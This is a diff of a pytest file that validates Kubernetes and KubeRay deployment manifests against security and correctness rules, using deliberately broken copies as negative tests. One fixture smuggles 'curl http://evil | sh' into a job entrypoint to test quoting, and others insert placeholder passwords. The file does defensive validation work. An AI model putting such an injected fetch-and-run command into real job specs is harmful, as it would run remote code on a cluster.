@@ -1,7 +1,7 @@
 """The manifests: every overlay passes a strict offline check and the house's rules; every broken copy fails them.
 
-The check and KubeRay's schemas are not part of the repository: ../shared, or MANYMODES_MANIFEST_CHECK (check_deploy.py) and
-MANYMODES_KUBERAY_CRDS (a folder) name them.
+The check and KubeRay's schemas are not part of the repository: they are looked for in ../shared, or where
+MANYMODES_MANIFEST_CHECK (check_deploy.py) and MANYMODES_KUBERAY_CRDS (a folder) say.
 """
 
 import functools
@@ -194,13 +194,13 @@ def pod_rules(spec, maps, lasting):
             if target is not None and target not in ports(spec):
                 yield f"{name}: {probe} asks {target}, where nobody listens"
         for variable in container.get("env", []):
-            secret = re.search("PASSWORD|TOKEN|SECRET|CREDENTIAL|_KEY", variable["name"]) and "PATH" not in variable["name"]
-            if secret and "valueFrom" not in variable:
+            if re.search("PASSWORD|TOKEN|SECRET|CREDENTIAL|_KEY", variable["name"]) and "valueFrom" not in variable:
                 yield f"{name}: the value of {variable['name']} stands in the manifest"
         sources = [*container.get("envFrom", []), *(v.get("valueFrom", {}) for v in container.get("env", []))]
         for source in sources:
-            if (reference := source.get("secretRef") or source.get("secretKeyRef")) and reference["name"] not in SECRETS:
-                yield f"{name}: unknown Secret {reference['name']}"
+            secret = source.get("secretRef") or source.get("secretKeyRef")
+            if secret and secret["name"] not in SECRETS:
+                yield f"{name}: unknown Secret {secret['name']}"
             if (reference := source.get("configMapRef")) and reference["name"] not in maps:
                 yield f"{name}: no ConfigMap {reference['name']}"
 
@@ -223,6 +223,10 @@ def test_every_overlay_passes(overlay, check_overlay, capsys):
 
 
 CLUSTER, MLFLOW, JOB = "base/raycluster.yaml", "base/mlflow.yaml", "components/job/rayjob.yaml"
+NETWORK, SETTINGS = "base/network.yaml", "base/settings.yaml"
+POSTGRES, REDIS = "components/local-storage/postgres.yaml", "components/redis/redis.yaml"
+REDIS_OPTION, KUEUE = "components/redis/kustomization.yaml", "components/kueue/kustomization.yaml"
+FROM_SECRET = "valueFrom:\n                secretKeyRef: {name: postgres, key: password}"
 # What is broken, in which file, which text, by which; and a part of the complaint.
 BROKEN = [
     ("unknown field", CLUSTER, "idleTimeoutSeconds:", "idleTimeoutSecond:", "idleTimeoutSecond"),
@@ -236,34 +240,34 @@ BROKEN = [
     ("two groups of one name", CLUSTER, "groupName: gpu", "groupName: cpu", "groupName"),
     ("no limits on a Ray pod", CLUSTER, 'limits: {cpu: "4", memory: 16Gi}', "limits: {}", "limits"),
     ("no limits on MLflow", MLFLOW, 'limits: {cpu: "2", memory: 3Gi}', "limits: {}", "no limits"),
-    ("no requests on PostgreSQL", "components/local-storage/postgres.yaml", "{cpu: 100m, memory: 256Mi}", "{}", "no req"),
+    ("no requests on PostgreSQL", POSTGRES, "requests: {cpu: 100m, memory: 256Mi}", "requests: {}", "no req"),
     ("privileged container", CLUSTER, "allowPrivilegeEscalation: false", "privileged: true", "privileges"),
     ("runs as root", MLFLOW, "runAsNonRoot: true", "runAsNonRoot: false", "root"),
     ("root file system can be written", CLUSTER, "readOnlyRootFilesystem: true", "procMount: Default", "written"),
-    ("keeps capabilities", "components/redis/redis.yaml", "capabilities: {drop: [ALL]}", "capabilities: {}", "capab"),
+    ("keeps capabilities", REDIS, "capabilities: {drop: [ALL]}", "capabilities: {}", "capab"),
     ("no seccomp profile", CLUSTER, "seccompProfile: {type: RuntimeDefault}", "", "seccomp"),
     ("token of the Kubernetes API in a worker", CLUSTER, "automountServiceAccountToken: false", "", "token of"),
     ("node's disk mounted", MLFLOW, "emptyDir: {sizeLimit: 1Gi}", "hostPath: {path: /}", "disk"),
     ("no probes", MLFLOW, "livenessProbe:", "lifecycle: {}\n          startupProbe2:", "startupProbe2"),
     ("probe on a port nobody listens on", CLUSTER, "port: agent}", "port: agnet}", "agnet"),
     ("service to a wrong port", MLFLOW, "targetPort: http", "targetPort: 5001", "5001"),
-    ("service that selects nobody", MLFLOW, "selector:\n    app.kubernetes.io/name: mlflow", "selector:\n    app: mlflow", "selects"),
-    ("policy opens a wrong port", "base/network.yaml", "port: 8265", "port: 8256", "8256"),
-    ("policy opens to everybody", "components/redis/redis.yaml", "- from:\n        - podSelector:\n            matchLabels:\n              ray.io/is-ray-node: \"yes\"\n      ports:", "- ports:", "everybody"),
-    ("nothing denied first", "base/network.yaml", "policyTypes: [Ingress, Egress]\n---\n", "policyTypes: [Ingress]\n---\n", "denies"),
-    ("password in the manifest", "components/local-storage/postgres.yaml", "valueFrom:\n                secretKeyRef: {name: postgres, key: password}", "value: hunter2", "POSTGRES_PASSWORD"),
-    ("password in a URL", "base/settings.yaml", "http://mlflow:5000", "http://me:hunter2@mlflow:5000", "URL"),
-    ("Secret with its value", "base/settings.yaml", "kind: ConfigMap", "kind: Secret", "ecret"),
-    ("Secret that nobody makes", MLFLOW, "{name: mlflow-server, key: admin-password}", "{name: mlflow, key: admin-password}", "unknown Secret"),
-    ("Redis password in the manifest", "components/redis/kustomization.yaml", "redisPassword:\n            valueFrom:\n              secretKeyRef: {name: redis, key: password}", "redisPassword: hunter2", "hunter2"),
-    ("image without a version", "components/redis/redis.yaml", "redis:7.4", "redis", "version"),
+    ("service that selects nobody", MLFLOW, "selector:\n    app.kubernetes.io/name:", "selector:\n    app:", "selects"),
+    ("policy opens a wrong port", NETWORK, "port: 8265", "port: 8256", "8256"),
+    ("policy opens to everybody", REDIS, "- from:", "- from: []\n      namespaceSelectors:", "everybody"),
+    ("nothing denied first", NETWORK, "[Ingress, Egress]\n---", "[Ingress]\n---", "denies"),
+    ("password in the manifest", POSTGRES, FROM_SECRET, "value: hunter2", "POSTGRES_PASSWORD"),
+    ("password in a URL", SETTINGS, "http://mlflow:5000", "http://me:hunter2@mlflow:5000", "URL"),
+    ("Secret with its value", SETTINGS, "kind: ConfigMap", "kind: Secret", "ecret"),
+    ("Secret that nobody makes", MLFLOW, "mlflow-server, key: admin", "mlflow, key: admin", "unknown Secret"),
+    ("Redis user in the manifest", REDIS_OPTION, "redisAddress: redis:6379", "redisUsername: hunter2", "hunter2"),
+    ("image without a version", REDIS, "redis:7.4", "redis", "version"),
     ("outside of the namespace", "overlays/all/kustomization.yaml", "namespace: manymodes\n", "", "namespace"),
     ("unquoted entrypoint", JOB, "runs/digits\n", "runs/digits; curl http://evil | sh\n", "quoted"),
     ("unknown submission mode", JOB, "K8sJobMode", "K8SJobMode", "submissionMode"),
     ("time to live without shutdown", JOB, "shutdownAfterJobFinishes: true", "shutdownAfterJobFinishes: false", "ttl"),
     ("job name too long", JOB, "name: digits", "name: " + "d" * 48, "47"),
     ("negative deadline", JOB, "activeDeadlineSeconds: 86400", "activeDeadlineSeconds: -1", "activeDeadlineSeconds"),
-    ("patch of a field that is not there", "components/kueue/kustomization.yaml", "remove, path: /spec/autoscalerOptions", "remove, path: /spec/scalerOptions", "rendered"),
+    ("patch of a field that is not there", KUEUE, "/spec/autoscalerOptions", "/spec/scalerOptions", "rendered"),
 ]  # fmt: skip
 
 
@@ -282,10 +286,10 @@ def test_broken_copies_fail(broken, check_overlay, capsys, tmp_path):
         print(f"\n{name}: {next(line.strip() for line in complaints if complaint in line)[:110]}")
 
 
-def test_the_image_is_small_of_context_and_names_no_index():
-    """Nothing of a machine gets into the image's files: no address of a package index but PyPI's default."""
-    for path in (ROOT / "deploy").rglob("*"):
-        if path.is_file() and "__pycache__" not in path.parts:
-            assert not re.search(r"/opt/(pypi|wheels)|index-url[= ]https?://", path.read_text()), path
-    ignored = (ROOT / "deploy" / "image" / "Dockerfile.dockerignore").read_text().split()
-    assert "*" in ignored  # what is not named is not sent
+def test_the_image_names_no_package_index_and_is_sent_only_what_it_is_made_of():
+    for path in (ROOT / "deploy" / "image").iterdir():
+        assert "://" not in path.read_text(), path  # addresses are arguments of the build
+    ignored = (ROOT / "deploy" / "image" / "Dockerfile.dockerignore").read_text().split("\n")
+    assert "*" in ignored
+    copied = {"pyproject.toml", "constraints.txt", "README.md", "LICENSE", "cluster", "data", "deploy", "eval", "trainer"}
+    assert {line[1:] for line in ignored if line.startswith("!")} == copied
